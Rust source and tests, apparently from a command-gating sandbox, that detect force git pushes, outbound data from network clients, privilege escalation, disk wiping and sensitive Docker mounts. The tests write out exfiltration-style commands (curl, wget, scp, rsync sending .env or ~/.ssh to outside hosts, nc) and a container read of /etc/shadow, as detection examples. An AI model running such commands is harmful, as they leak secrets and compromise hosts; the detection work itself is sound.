//! What an `execve`'s argv means, for the programs whose harm is in their
//! arguments rather than in the system calls the jail lets them make:
//! `git push` (its options as git parses them), network clients (where to,
//! and whether they send local data), and privilege tools.

use shellgate_rules::remote::Destination;

/// The last path segment of a program path.
pub fn program(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// True when `program` (an executed path) reads `file` by itself to find
/// credentials for the host it talks to, not because the command asked:
/// git's HTTP transports (`git-remote-http`, `-https`, `-ftp`, `-ftps`)
/// let libcurl consult `~/.netrc` for the remote's host (git-config(1)
/// `http.*`; libcurl `CURLOPT_NETRC`, optional). The credential goes only
/// to the host it is listed for, so this read is not the command reading a
/// secret; where the data goes is judged by the network findings.
pub fn credential_lookup(program_path: &str, file: &str) -> bool {
    let prog = program(program_path);
    let git_http = matches!(
        prog,
        "git-remote-http" | "git-remote-https" | "git-remote-ftp" | "git-remote-ftps"
    );
    git_http && program(file) == ".netrc"
}

/// A `git push` and what makes it destructive.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Push {
    /// Why it rewrites or deletes remote history (`--force`, `+refspec`,
    /// `--delete`, `:ref`, `--mirror` …), if it does.
    pub force: Option<String>,
    /// The repository argument (`origin`, a URL), when given.
    pub repository: Option<String>,
}

/// Global options of git that take a separate value (git(1), OPTIONS).
const GIT_VALUE_OPTIONS: &[&str] = &[
    "-C",
    "-c",
    "--git-dir",
    "--work-tree",
    "--namespace",
    "--exec-path",
    "--super-prefix",
    "--config-env",
    "--list-cmds",
    "--attr-source",
];

/// Reads `argv` (program first) as git does: global options, aliases
/// defined with `-c alias.NAME=VALUE` (a non-shell alias is expanded in
/// place), then the subcommand. `Some` for a `push`.
pub fn git_push(argv: &[String]) -> Option<Push> {
    let mut aliases: Vec<(String, String)> = Vec::new();
    let mut i = 1;
    while i < argv.len() {
        let a = argv[i].as_str();
        if a == "-c" {
            if let Some(kv) = argv.get(i + 1) {
                if let Some((k, v)) = kv.split_once('=') {
                    if let Some(name) = k.to_ascii_lowercase().strip_prefix("alias.") {
                        aliases.push((name.to_string(), v.to_string()));
                    }
                }
            }
            i += 2;
        } else if GIT_VALUE_OPTIONS.contains(&a) {
            i += 2;
        } else if a.starts_with('-') {
            i += 1;
        } else {
            break;
        }
    }
    let sub = argv.get(i)?;
    let mut rest: Vec<String> = argv[i + 1..].to_vec();
    let mut sub = sub.clone();
    for _ in 0..8 {
        let Some((_, value)) = aliases.iter().find(|(n, _)| *n == sub) else {
            break;
        };
        if value.starts_with('!') {
            return None; // a shell alias: its commands are traced themselves
        }
        let words = shell_words::split(value).ok()?;
        let (first, more) = words.split_first()?;
        sub = first.clone();
        rest.splice(0..0, more.iter().cloned());
    }
    (sub == "push").then(|| push_options(&rest))
}

fn push_options(args: &[String]) -> Push {
    let mut force = None;
    let mut positional = Vec::new();
    let mut set = |why: &str| {
        if force.is_none() {
            force = Some(why.to_string());
        }
    };
    let mut i = 0;
    let mut options_done = false;
    while i < args.len() {
        let a = args[i].as_str();
        i += 1;
        if options_done || !a.starts_with('-') || a == "-" {
            positional.push(a.to_string());
            continue;
        }
        if a == "--" {
            options_done = true;
            continue;
        }
        if let Some(long) = a.strip_prefix("--") {
            let name = long.split('=').next().unwrap_or(long);
            match name {
                "force" | "force-with-lease" | "force-if-includes" | "mirror" | "delete"
                | "prune" => set(&format!("--{name}")),
                // Options with a separate value.
                "repo" | "receive-pack" | "exec" | "push-option" | "signed"
                | "recurse-submodules"
                    if !long.contains('=') =>
                {
                    i += 1;
                }
                _ => {}
            }
            continue;
        }
        // Bundled short options: -fq, -uf; `-o` takes the rest or the next.
        for (k, c) in a[1..].char_indices() {
            match c {
                'f' => set("-f"),
                'd' => set("-d"),
                'o' => {
                    if k + 2 == a.len() {
                        i += 1;
                    }
                    break;
                }
                _ => {}
            }
        }
    }
    let repository = positional.first().cloned();
    for spec in positional.iter().skip(1) {
        if spec.starts_with('+') {
            set(&format!("+refspec `{spec}`"));
        } else if spec.starts_with(':') {
            set(&format!("delete refspec `{spec}`"));
        }
    }
    Push { force, repository }
}

/// One use of the network by a client program.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NetUse {
    /// Where to.
    pub dest: Destination,
    /// True when local data goes out (an upload, a request body, a file
    /// copied to the remote, stdin of a raw client).
    pub sends_data: bool,
}

/// The network uses `argv` asks for, by program.
pub fn net_uses(argv: &[String]) -> Vec<NetUse> {
    let Some(first) = argv.first() else {
        return Vec::new();
    };
    let args = &argv[1..];
    let url_args = || {
        args.iter()
            .filter(|a| a.contains("://"))
            .filter_map(|a| Destination::from_url(a))
            .collect::<Vec<_>>()
    };
    let with = |dests: Vec<Destination>, sends: bool| {
        dests
            .into_iter()
            .map(|dest| NetUse {
                dest,
                sends_data: sends,
            })
            .collect()
    };
    match program(first) {
        "curl" => {
            let sends = args.iter().any(|a| {
                let name = a.split('=').next().unwrap_or(a);
                matches!(
                    name,
                    "-d" | "--data"
                        | "--data-binary"
                        | "--data-raw"
                        | "--data-urlencode"
                        | "--data-ascii"
                        | "-F"
                        | "--form"
                        | "--form-string"
                        | "-T"
                        | "--upload-file"
                        | "--json"
                ) || (a.starts_with('-')
                    && !a.starts_with("--")
                    && a[1..].chars().any(|c| matches!(c, 'd' | 'F' | 'T')))
            });
            let mut dests = url_args();
            // curl also takes a bare host[/path] as the URL.
            if dests.is_empty() {
                dests.extend(
                    args.iter()
                        .filter(|a| !a.starts_with('-') && a.contains('.'))
                        .filter_map(|a| Destination::from_host_or_url(a)),
                );
            }
            with(dests, sends)
        }
        "wget" => {
            let sends = args.iter().any(|a| {
                [
                    "--post-data",
                    "--post-file",
                    "--body-data",
                    "--body-file",
                    "--method",
                ]
                .iter()
                .any(|o| a.starts_with(o))
            });
            with(url_args(), sends)
        }
        "nc" | "ncat" | "netcat" | "telnet" => {
            let hosts: Vec<Destination> = args
                .iter()
                .filter(|a| !a.starts_with('-') && a.parse::<u16>().is_err())
                .filter_map(|a| Destination::from_host_or_url(a))
                .take(1)
                .collect();
            with(hosts, true)
        }
        "socat" => with(
            args.iter()
                .filter_map(|a| {
                    let upper = a.to_ascii_uppercase();
                    let rest = ["TCP:", "TCP4:", "TCP6:", "UDP:", "OPENSSL:", "TCP-CONNECT:"]
                        .iter()
                        .find_map(|p| upper.starts_with(p).then(|| &a[p.len()..]))?;
                    Destination::from_host_or_url(rest.split(':').next()?)
                })
                .collect(),
            true,
        ),
        "ssh" => {
            let host = ssh_host(args);
            // `git-upload-pack 'org/repo.git'`: the path git asks for.
            let path = args
                .iter()
                .find_map(|a| {
                    a.strip_prefix("git-upload-pack ")
                        .or(a.strip_prefix("git-receive-pack "))
                })
                .map(|p| p.trim_matches('\'').trim_start_matches('/').to_string());
            let sends = args.iter().any(|a| a.starts_with("git-receive-pack"));
            with(
                host.map(|h| Destination {
                    path: path.unwrap_or_default(),
                    ..h
                })
                .into_iter()
                .collect(),
                sends,
            )
        }
        "scp" | "sftp" | "rsync" => {
            let positional: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
            let mut out = Vec::new();
            for (k, a) in positional.iter().enumerate() {
                if let Some(dest) = Destination::from_scp(a) {
                    if dest.host.contains('/') {
                        continue;
                    }
                    // A remote as the last operand receives the others.
                    let sends = k + 1 == positional.len() && positional.len() > 1;
                    out.push(NetUse {
                        dest,
                        sends_data: sends,
                    });
                }
            }
            out
        }
        "dig" | "nslookup" | "host" => with(
            args.iter()
                .filter(|a| !a.starts_with(['-', '+', '@']) && a.contains('.'))
                .filter_map(|a| Destination::from_host_or_url(a))
                .take(1)
                .collect(),
            false,
        ),
        "git" => {
            let Some(push) = git_push(argv) else {
                return Vec::new();
            };
            push.repository
                .as_deref()
                .and_then(|r| Destination::from_scp(r).or_else(|| Destination::from_url(r)))
                .map(|dest| NetUse {
                    dest,
                    sends_data: true,
                })
                .into_iter()
                .collect()
        }
        _ => Vec::new(),
    }
}

/// The host of an `ssh` command line: the first operand after the options
/// (ssh(1): the options that take a value are `-BbcDEeFIiJLlmOoPpQRSWw`).
fn ssh_host(args: &[String]) -> Option<Destination> {
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if let Some(flags) = a.strip_prefix('-') {
            let takes = flags
                .chars()
                .last()
                .is_some_and(|c| "BbcDEeFIiJLlmOoPpQRSWw".contains(c));
            i += if takes && flags.len() == 1 { 2 } else { 1 };
            continue;
        }
        return Destination::from_host_or_url(a.rsplit('@').next().unwrap_or(a));
    }
    None
}

/// Why running `argv` is privilege escalation, if it is: a program that
/// switches user, or a container run that hands the host to the command.
pub fn privilege(argv: &[String]) -> Option<String> {
    let first = argv.first()?;
    let name = program(first);
    match name {
        "sudo" | "su" | "doas" | "pkexec" | "run0" | "runuser" | "sudoedit" | "ksu" => {
            Some(format!("ran {name}"))
        }
        "docker" | "podman" => {
            // Only `run`/`create` (also as `container run`) start a
            // container; anything else with these options is an error.
            let mut words = argv[1..].iter().filter(|a| !a.starts_with('-'));
            let starts = match words.next().map(String::as_str) {
                Some("run" | "create") => true,
                Some("container") => {
                    matches!(words.next().map(String::as_str), Some("run" | "create"))
                }
                _ => false,
            };
            if !starts {
                return None;
            }
            let args = &argv[1..];
            let host_mount = args.windows(2).any(|w| {
                matches!(w[0].as_str(), "-v" | "--volume" | "--mount") && sensitive_mount(&w[1])
            }) || args.iter().any(|a| {
                a.strip_prefix("--volume=")
                    .or(a.strip_prefix("-v"))
                    .or(a.strip_prefix("--mount="))
                    .is_some_and(sensitive_mount)
            });
            let privileged = args.iter().any(|a| {
                a == "--privileged"
                    || a.starts_with("--pid=host")
                    || a.starts_with("--cap-add")
                    || a.starts_with("--security-opt")
            });
            (host_mount || privileged)
                .then(|| format!("{name} run with the host's root, /etc or privileges"))
        }
        _ => None,
    }
}

/// Why `argv` destroys a disk's data, if it does: a formatter, wiper or
/// partitioner given a block device, or `dd of=` a block device.
pub fn disk_destroyer(argv: &[String]) -> Option<String> {
    let name = program(argv.first()?);
    let formatter = name.starts_with("mkfs")
        || matches!(
            name,
            "mke2fs"
                | "mkswap"
                | "wipefs"
                | "fdisk"
                | "sfdisk"
                | "cfdisk"
                | "parted"
                | "sgdisk"
                | "gdisk"
                | "shred"
                | "blkdiscard"
        );
    let args = &argv[1..];
    if formatter {
        return args
            .iter()
            .find(|a| crate::classify::is_disk(a))
            .map(|d| format!("{name} on disk {d}"));
    }
    if name == "dd" {
        return args
            .iter()
            .find_map(|a| {
                a.strip_prefix("of=")
                    .filter(|d| crate::classify::is_disk(d))
            })
            .map(|d| format!("dd over disk {d}"));
    }
    None
}

/// A bind of `/`, `/etc`, `/root`, `/var/run/docker.sock` or the like.
fn sensitive_mount(spec: &str) -> bool {
    let src = if let Some(rest) = spec.strip_prefix("type=bind,") {
        rest.split(',')
            .find_map(|kv| kv.strip_prefix("source=").or(kv.strip_prefix("src=")))
            .unwrap_or("")
    } else {
        spec.split(':').next().unwrap_or("")
    };
    let src = src.trim_end_matches('/');
    src.is_empty() && spec.starts_with('/')
        || [
            "/etc",
            "/root",
            "/boot",
            "/proc",
            "/sys",
            "/dev",
            "/var/run/docker.sock",
            "/run/docker.sock",
        ]
        .iter()
        .any(|p| src == *p || src.starts_with(&format!("{p}/")))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(s: &str) -> Vec<String> {
        shell_words::split(s).unwrap()
    }

    #[test]
    fn credential_lookups_by_git_transports() {
        assert!(credential_lookup(
            "/usr/lib/git-core/git-remote-https",
            "/home/dev/.netrc"
        ));
        assert!(!credential_lookup(
            "/usr/lib/git-core/git-remote-https",
            "/home/dev/.ssh/id_rsa"
        ));
        assert!(!credential_lookup("/usr/bin/cat", "/home/dev/.netrc"));
        assert!(!credential_lookup("/usr/bin/curl", "/home/dev/.netrc"));
    }

    #[test]
    fn git_push_as_git_parses_it() {
        for (cmd, force) in [
            ("git push --force", Some("--force")),
            ("git push -fq origin main", Some("-f")),
            (
                "git -C app -c x.y=z push origin +feature",
                Some("+refspec `+feature`"),
            ),
            ("git push --mirror", Some("--mirror")),
            (
                "git push origin :release/1.0",
                Some("delete refspec `:release/1.0`"),
            ),
            (
                "git push --force-with-lease=main:abc",
                Some("--force-with-lease"),
            ),
            ("git -c alias.p=push p -f", Some("-f")),
            ("git -c alias.fp='push --force' fp", Some("--force")),
            ("git push origin main", None),
            ("git push -o ci.skip origin main", None),
            ("git push --set-upstream origin feature/x", None),
            ("git push origin -- -f", None),
        ] {
            let p = git_push(&v(cmd)).unwrap_or_else(|| panic!("{cmd} is a push"));
            assert_eq!(p.force.as_deref(), force, "{cmd}");
        }
        assert!(git_push(&v("git log --grep push")).is_none());
        assert!(git_push(&v("git -c alias.p='!sh -c x' p")).is_none());
        assert_eq!(
            git_push(&v("git push https://gitlab.example.com/x/y.git main"))
                .unwrap()
                .repository
                .as_deref(),
            Some("https://gitlab.example.com/x/y.git")
        );
    }

    #[test]
    fn network_clients() {
        let one = |s: &str| {
            let u = net_uses(&v(s));
            assert_eq!(u.len(), 1, "{s}: {u:?}");
            (u[0].dest.host.clone(), u[0].sends_data)
        };
        assert_eq!(
            one("curl -sSL https://get.example.net/x.sh"),
            ("get.example.net".into(), false)
        );
        assert_eq!(
            one("curl --data @f https://c.example.org/k"),
            ("c.example.org".into(), true)
        );
        assert_eq!(
            one("curl -sT .env https://c.example.org/"),
            ("c.example.org".into(), true)
        );
        assert_eq!(
            one("wget --post-file .env https://c.example.org/"),
            ("c.example.org".into(), true)
        );
        assert_eq!(one("nc c.example.org 9001"), ("c.example.org".into(), true));
        assert_eq!(
            one("scp -r /home/dev/.ssh x@c.example.org:"),
            ("c.example.org".into(), true)
        );
        assert_eq!(
            one("rsync -avz .env x@198.51.100.23:/tmp/"),
            ("198.51.100.23".into(), true)
        );
        assert_eq!(
            one("dig abc.c.example.org"),
            ("abc.c.example.org".into(), false)
        );
        let ssh = net_uses(&v(
            "ssh -x -o SendEnv=GIT_PROTOCOL git@github.com \"git-upload-pack 'acme/tools.git'\"",
        ));
        assert_eq!(ssh[0].dest.host, "github.com");
        assert_eq!(ssh[0].dest.path, "acme/tools.git");
        assert!(net_uses(&v("rsync -a src/ dst/")).is_empty());
        // A remote name is not a destination by itself (classify maps it).
        assert!(net_uses(&v("git push origin main")).is_empty());
    }

    #[test]
    fn privilege_tools() {
        assert!(privilege(&v("/usr/bin/sudo id")).is_some());
        assert!(privilege(&v("docker run --rm -v /:/mnt ubuntu cat /mnt/etc/shadow")).is_some());
        assert!(privilege(&v(
            "docker run --rm -v /home/dev/project/src:/src ubuntu ls"
        ))
        .is_none());
        assert!(privilege(&v("docker compose ps")).is_none());
        assert!(privilege(&v("docker stdbuf -v /:/mnt")).is_none());
        assert!(privilege(&v("podman container run --privileged x")).is_some());
    }
}
